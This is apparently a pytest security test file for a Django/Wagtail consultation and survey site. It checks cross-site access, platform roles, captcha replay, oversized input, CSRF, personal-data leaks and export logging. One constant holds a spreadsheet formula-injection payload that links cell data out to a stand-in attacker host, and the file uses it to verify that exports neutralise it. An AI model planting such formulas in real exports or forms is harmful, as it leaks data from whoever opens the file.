"""意见征集 and 网上调查 attacked: another site's staff, platform roles and a hostile citizen, through the real views.

Each test names what was tried; those guarding a defect found by this review say so."""

import datetime
import io

import pytest
import time_machine
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import PageViewRestriction

from consultations import surveys
from consultations.models import Comment, SurveyAnswer, SurveyResponse
from sitegroup.models import SiteIdentity
from sitegroup.platform import AUDIT_ADMIN_GROUP, SECURITY_ADMIN_GROUP, SYSTEM_ADMIN_GROUP
from tests.citizen_mailbox.conftest import captcha_answer
from tests.consultations.moderation_world import comment_on, consultation_on
from tests.consultations.test_surveys import NOW, add_survey, answers, csv_rows, export, exporter, respond, survey_index
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

HOST = "county-a.localhost"
LIST = "consultations_comments"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.fixture(autouse=True)
def frozen():
    """The surveys of tests.consultations.test_surveys are open at its NOW."""
    with time_machine.travel(NOW, tick=False):
        yield


def staff(site, role):
    return UserFactory(groups=[site.groups[role]])


def visitor(number=1):
    return Client(HTTP_HOST=HOST, REMOTE_ADDR=f"10.9.0.{number}")


@pytest.fixture
def two_counties(site_group):
    own = consultation_on(site_group.county_a.home, title="甲县征求意见稿")
    other = consultation_on(site_group.county_b.home, title="乙县征求意见稿")
    comment_on(own, site_group.county_a.home, content="甲县的意见")
    comment_on(other, site_group.county_b.home, content="乙县的意见", contact="乙县联系电话")
    return own, other


# --- 意见审核: the list's ?consultation= filter -----------------------------------------------------------------


@pytest.mark.parametrize("value", ["other_site", "abc", "-1", "99999999999999999999999", "1e9", "²", ""])
@pytest.mark.parametrize("url_name", [LIST, f"{LIST}_results"])
def test_the_list_filtered_by_a_foreign_bad_or_huge_id_shows_only_the_users_sites(
    client, site_group, two_counties, value, url_name
):
    """Defect found: an id beyond the database's integers made the list (and its results view) a 500."""
    own, other = two_counties
    client.force_login(staff(site_group.county_a, "编辑"))
    response = client.get(reverse(url_name), {"consultation": other.pk if value == "other_site" else value})
    assert response.status_code == 200
    html = response.content.decode()
    assert "乙县的意见" not in html and "乙县联系电话" not in html
    assert "甲县的意见" in html


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_lists_spreadsheet_export_carries_no_comment(client, site_group, two_counties, export_format):
    """ReportView answers ?export=; the list declares no export columns, so nothing (no contact) leaves with it."""
    client.force_login(UserFactory(groups=[Group.objects.get(name=AUDIT_ADMIN_GROUP)]))
    response = client.get(reverse(LIST), {"export": export_format})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "xlsx":
        sheet = load_workbook(io.BytesIO(body)).active
        body = repr([[cell.value for cell in row] for row in sheet.iter_rows()]).encode()
    assert "意见".encode() not in body and "联系电话".encode() not in body


def test_the_security_administrator_does_not_read_the_citizens_comments(client, site_group, two_counties):
    client.force_login(UserFactory(groups=[Group.objects.get(name=SECURITY_ADMIN_GROUP)]))
    response = client.get(reverse(LIST))
    assert response.status_code in (302, 403)
    comment = Comment.objects.get(content="乙县的意见")
    assert client.get(reverse("consultations_comment", args=[comment.pk])).status_code in (302, 403, 404)


@pytest.mark.parametrize("group", [SYSTEM_ADMIN_GROUP, AUDIT_ADMIN_GROUP])
def test_platform_roles_read_the_list_but_cannot_moderate_or_see_contacts(client, site_group, two_counties, group):
    client.force_login(UserFactory(groups=[Group.objects.get(name=group)]))
    comment = Comment.objects.get(content="乙县的意见")
    detail = client.get(reverse("consultations_comment", args=[comment.pk]))
    assert detail.status_code == 200 and "乙县联系电话" not in detail.content.decode()
    refused = client.post(reverse("consultations_comment", args=[comment.pk]), {"status": "approved"})
    assert refused.status_code in (302, 403)
    comment.refresh_from_db()
    assert comment.status == "pending" and comment.moderated_by is None


# --- the survey export --------------------------------------------------------------------------------------


@pytest.fixture
def survey(site_group):
    return add_survey(survey_index(site_group.county_a.home))


def test_a_citizens_formula_is_text_in_the_xlsx_export(survey, site_group, make_user):
    """Defect found: openpyxl stores a string starting with '=' as a formula, so a free-text answer ran as one."""
    respond(survey, "1路", ["准点"], "5", FORMULA)
    xlsx = export(exporter(make_user, site_group.county_a), survey.pk, "xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    answer = list(sheet.iter_rows())[1][5]
    assert answer.data_type == "s" and answer.value == FORMULA


def test_a_question_written_as_a_formula_is_text_in_both_exports(survey, site_group, make_user):
    """Defect found: the header row (the editors' question texts) skipped the CSV quoting and the XLSX guard."""
    survey.questions.filter(sort_order=3).update(text="=1+1")
    respond(survey, "1路", ["准点"], "5", "")
    user = exporter(make_user, site_group.county_a)
    assert csv_rows(export(user, survey.pk))[0][5] == "'=1+1"
    sheet = load_workbook(io.BytesIO(export(user, survey.pk, "xlsx").content)).active
    header = list(sheet.iter_rows())[0][5]
    assert header.data_type == "s" and header.value == "=1+1"


# --- a hostile citizen ----------------------------------------------------------------------------------------


def comment_url(page):
    return page.get_url_parts()[2] + "comment/"


def comment_data(client, page, **overrides):
    form = client.get(comment_url(page))
    assert form.status_code == 200
    hashkey, answer = captcha_answer(form)
    return {"content": "建议增加过渡期。", "captcha_0": hashkey, "captcha_1": answer, **overrides}


@pytest.mark.parametrize("section", ["0", "2", "-1", "1.5", "99999999999999999999", "x"])
def test_a_section_the_draft_has_not_is_refused_and_nothing_stored(site_group, section):
    consultation = consultation_on(site_group.county_a.home)
    client = visitor()
    response = client.post(comment_url(consultation), comment_data(client, consultation, section=section))
    assert response.status_code == 400 and not Comment.objects.exists()


@pytest.mark.parametrize("section", ["²", "٣", "99999999999999999999", "0", "x"])
def test_the_form_asked_for_a_section_the_draft_has_not_preselects_none(site_group, section):
    """Defect found: ?section=² (a digit to str.isdigit, not to int) made the comment form a 500."""
    consultation = consultation_on(site_group.county_a.home)
    response = visitor().get(comment_url(consultation), {"section": section})
    assert response.status_code == 200
    assert response.context["form"]["section"].value() in (None, "")


def test_a_replayed_captcha_is_refused_and_stores_one_comment(site_group):
    consultation = consultation_on(site_group.county_a.home)
    client = visitor()
    data = comment_data(client, consultation)
    assert client.post(comment_url(consultation), data).status_code == 200
    assert client.post(comment_url(consultation), data).status_code == 400
    assert Comment.objects.count() == 1


@pytest.mark.parametrize("restriction", ["login", "password"])
def test_a_view_restricted_consultation_takes_no_comment(site_group, restriction):
    consultation = consultation_on(site_group.county_a.home)
    client = visitor()
    data = comment_data(client, consultation)
    PageViewRestriction.objects.create(page=consultation, restriction_type=restriction, password="secret")
    response = client.post(comment_url(consultation), data)
    assert response.status_code in (200, 302) and "感谢您的意见" not in response.content.decode()
    assert not Comment.objects.exists()


def test_a_held_sites_consultation_takes_no_comment(site_group):
    consultation = consultation_on(site_group.county_a.home)
    client = visitor()
    data = comment_data(client, consultation)
    SiteIdentity.objects.filter(site=site_group.county_a.site).update(icp_number="")
    assert client.post(comment_url(consultation), data).status_code == 503
    assert not Comment.objects.exists()


def test_an_unpublished_consultation_takes_no_comment(site_group):
    consultation = consultation_on(site_group.county_a.home)
    client = visitor()
    data = comment_data(client, consultation)
    consultation.unpublish()
    assert client.post(comment_url(consultation), data).status_code == 404
    assert not Comment.objects.exists()


def answer_url(survey):
    return survey.url + "answer/"


def post_answers(client, survey, **overrides):
    form = client.get(answer_url(survey))
    hashkey, answer = captcha_answer(form)
    return client.post(answer_url(survey), {**answers(survey), "captcha_0": hashkey, "captcha_1": answer, **overrides})


def test_one_surveys_cookie_does_not_close_another_survey(survey, site_group):
    other = add_survey(survey_index(site_group.county_a.home), title="另一项调查", slug="other")
    client = visitor()
    assert post_answers(client, survey).status_code == 200
    answered = client.cookies[surveys.cookie_name(survey)].value
    # The same signed value under the other survey's name is not the other survey's mark.
    client.cookies[surveys.cookie_name(other)] = answered
    assert post_answers(client, other).status_code == 200
    assert SurveyResponse.objects.filter(survey=other).count() == 1


def test_two_values_for_a_single_choice_store_one_answer(survey):
    single = surveys.field_name(survey.questions.get(sort_order=0))
    response = post_answers(visitor(), survey, **{single: ["1路", "2路"]})
    assert response.status_code == 200
    assert SurveyAnswer.objects.filter(question__sort_order=0).count() == 1


def test_an_answer_to_another_surveys_question_is_ignored(survey, site_group):
    other = add_survey(survey_index(site_group.county_a.home), title="另一项调查", slug="other")
    foreign = surveys.field_name(other.questions.get(sort_order=3))
    assert post_answers(visitor(), survey, **{foreign: "不相干"}).status_code == 200
    assert not SurveyAnswer.objects.filter(value="不相干").exists()
    assert not SurveyResponse.objects.filter(survey=other).exists()


# --- oversized bodies, and what a public page names ---------------------------------------------------------


def test_an_oversized_comment_is_refused_and_nothing_stored(site_group, settings):
    consultation = consultation_on(site_group.county_a.home)
    client = visitor()
    data = comment_data(client, consultation, content="意" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE // 3 + 10))
    assert client.post(comment_url(consultation), data).status_code == 400
    assert not Comment.objects.exists()


def test_an_oversized_survey_response_is_refused_and_nothing_stored(survey, settings):
    text = surveys.field_name(survey.questions.get(sort_order=3))
    body = "答" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE // 3 + 10)
    client = visitor()
    assert post_answers(client, survey, **{text: body}).status_code == 400
    assert not SurveyResponse.objects.exists() and not SurveyAnswer.objects.exists()
    assert surveys.cookie_name(survey) not in client.cookies


def test_a_view_restricted_adopted_policy_is_not_named_on_the_public_consultation(site_group):
    from wagtail.models import Page

    from tests.policy.utils import add_policy, library_of

    policy = add_policy(library_of(site_group.county_a), "内部管理办法")
    PageViewRestriction.objects.create(page=Page.objects.get(pk=policy.pk), restriction_type="login")
    consultation = consultation_on(site_group.county_a.home)
    consultation.adopted_policy = policy
    consultation.save_revision().publish()
    with time_machine.travel(consultation.closes_at + datetime.timedelta(days=1), tick=False):
        html = visitor().get(consultation.get_url_parts()[2]).content.decode()
    assert "已截止" in html and "内部管理办法" not in html


# --- across sites, from the portal and in the site history ------------------------------------------------------


def test_the_portals_editor_neither_reads_nor_moderates_a_countys_comment(client, site_group, two_counties):
    own, _ = two_counties
    comment = Comment.objects.get(content="甲县的意见")
    client.force_login(staff(site_group.portal, "编辑"))
    listed = client.get(reverse(LIST), {"consultation": own.pk})
    assert listed.status_code in (200, 302, 403) and "甲县的意见" not in listed.content.decode()
    assert client.get(reverse("consultations_comment", args=[comment.pk])).status_code in (302, 403, 404)
    client.post(reverse("consultations_comment", args=[comment.pk]), {"status": "approved"})
    comment.refresh_from_db()
    assert comment.status == "pending"


def test_another_countys_editor_cannot_preview_a_draft_consultation(client, site_group):
    consultation = consultation_on(site_group.county_a.home, title="甲县内部草稿")
    consultation.unpublish()
    client.force_login(staff(site_group.county_b, "编辑"))
    response = client.get(reverse("wagtailadmin_pages:preview_on_edit", args=[consultation.pk]))
    assert response.status_code in (302, 403, 404) and "甲县内部草稿" not in response.content.decode()


def test_another_countys_editor_does_not_read_a_moderation_in_the_site_history(client, site_group, two_counties):
    moderator = staff(site_group.county_a, "编辑")
    client.force_login(moderator)
    comment = Comment.objects.get(content="甲县的意见")
    client.post(reverse("consultations_comment", args=[comment.pk]), {"status": "approved", "outcome": "adopted"})
    client.force_login(staff(site_group.county_b, "编辑"))
    html = client.get("/admin/reports/site-history/").content.decode()
    assert f"意见 {comment.pk}" not in html and moderator.get_username() not in html


def test_a_published_comment_leaks_no_personal_data_to_the_page_or_the_feed(client, site_group):
    consultation = consultation_on(site_group.county_a.home)
    consultation.show_comments = True
    consultation.save_revision().publish()
    citizen = visitor()
    data = comment_data(
        citizen, consultation, name="欧阳娜娜", contact="oyn@example.com", content="请电话13912345678联系我。"
    )
    assert citizen.post(comment_url(consultation), data).status_code == 200
    client.force_login(staff(site_group.county_a, "编辑"))
    comment = Comment.objects.get()
    moderated = client.post(reverse("consultations_comment", args=[comment.pk]), {"status": "approved"})
    assert moderated.status_code == 302
    page = visitor(2).get(consultation.get_url_parts()[2]).content.decode()
    feed = visitor(2).get(consultation.get_parent().get_url_parts()[2] + "rss/").content.decode()
    assert "请电话" in page
    for public in (page, feed):
        assert "欧阳娜娜" not in public and "oyn@example.com" not in public and "13912345678" not in public


def test_a_held_sites_english_consultation_takes_no_comment(site_group):
    from tests.consultations.test_translated_pages import in_english

    english = in_english(consultation_on(site_group.county_a.home), site_group)
    client = visitor()
    data = comment_data(client, english)
    SiteIdentity.objects.filter(site=site_group.county_a.site).update(icp_number="")
    assert client.post(comment_url(english), data).status_code == 503
    assert not Comment.objects.exists()


# --- 设置 → 征集类型 and 意见征集设置 ----------------------------------------------------------------------------

KIND_VIEWS = ["index", "add", "edit", "delete", "history", "usage", "copy"]


@pytest.mark.parametrize("who", ["管理员", "编辑", SECURITY_ADMIN_GROUP, AUDIT_ADMIN_GROUP, SYSTEM_ADMIN_GROUP])
def test_only_the_system_administrator_opens_the_kinds_and_no_one_deletes_one(client, site_group, who):
    from consultations.models import ConsultationKind, ConsultationSettings

    kind = ConsultationKind.objects.first()
    group = site_group.county_a.groups[who] if who in ("管理员", "编辑") else Group.objects.get(name=who)
    client.force_login(UserFactory(groups=[group]))
    for view in KIND_VIEWS:
        url = reverse(f"consultation_kinds:{view}", args=[] if view in ("index", "add") else [kind.pk])
        opens = who == SYSTEM_ADMIN_GROUP and view != "delete"
        assert (client.get(url).status_code == 200) is opens, (who, view)
    client.post(reverse("consultation_kinds:delete", args=[kind.pk]))
    row = ConsultationSettings.load()
    client.post(
        reverse("wagtailsettings:edit", args=["consultations", "consultationsettings", row.pk]),
        {"feedback_due_days": 99},
    )
    assert ConsultationKind.objects.filter(pk=kind.pk).exists()
    assert (ConsultationSettings.load().feedback_due_days == 99) is (who == SYSTEM_ADMIN_GROUP)


def test_the_portals_policy_does_not_link_a_held_countys_consultation(site_group):
    from tests.policy.utils import add_policy, library_of

    policy = add_policy(library_of(site_group.portal), "示例市某某管理办法")
    consultation = consultation_on(site_group.county_a.home, title="甲县对市办法的征求意见稿")
    consultation.adopted_policy = policy
    consultation.save_revision().publish()
    SiteIdentity.objects.filter(site=site_group.county_a.site).update(icp_number="")
    page = Client(HTTP_HOST="localhost").get(policy.url)
    assert page.status_code == 200
    assert "甲县对市办法的征求意见稿" not in page.content.decode()


# --- what the forms take -------------------------------------------------------------------------------------


def test_a_comment_without_the_csrf_token_is_refused(site_group):
    consultation = consultation_on(site_group.county_a.home)
    client = Client(HTTP_HOST=HOST, REMOTE_ADDR="10.9.1.1", enforce_csrf_checks=True)
    data = comment_data(client, consultation)
    assert client.post(comment_url(consultation), data).status_code == 403
    assert not Comment.objects.exists()


def test_a_nul_character_is_dropped_from_a_comment_and_an_answer(site_group, survey):
    """PostgreSQL cannot store NUL in text: the public forms drop control characters before anything is stored."""
    consultation = consultation_on(site_group.county_a.home)
    client = visitor()
    assert (
        client.post(comment_url(consultation), comment_data(client, consultation, content="意见\x00")).status_code
        == 200
    )
    text = surveys.field_name(survey.questions.get(sort_order=3))
    assert post_answers(visitor(2), survey, **{text: "建议\x00"}).status_code == 200
    assert Comment.objects.get().content == "意见"
    assert SurveyAnswer.objects.filter(question__sort_order=3).get().value == "建议"


def test_too_many_fields_are_refused_and_nothing_stored(survey, settings):
    multiple = surveys.field_name(survey.questions.get(sort_order=1))
    response = post_answers(visitor(), survey, **{multiple: ["准点"] * (settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)})
    assert response.status_code == 400
    assert not SurveyResponse.objects.exists() and not SurveyAnswer.objects.exists()


def test_an_export_of_the_responses_is_on_record(client, survey, site_group, make_user):
    """Defect found: downloading every response of a survey left no trace in the audit log."""
    from wagtail.models import PageLogEntry

    respond(survey, "1路", ["准点"], "5", "")
    user = exporter(make_user, site_group.county_a)
    client.force_login(user)
    response = client.get(reverse("consultations_survey_export", args=[survey.pk, "xlsx"]))
    assert response.status_code == 200
    entry = PageLogEntry.objects.get(action="consultations.survey.export")
    assert (entry.page_id, entry.user, entry.data["format"], entry.data["responses"]) == (survey.pk, user, "xlsx", 1)
    assert entry.message == "导出网上调查答卷"
    client.force_login(staff(site_group.county_b, "编辑"))
    assert client.get(reverse("consultations_survey_export", args=[survey.pk, "csv"])).status_code == 404
    assert PageLogEntry.objects.filter(action="consultations.survey.export").count() == 1
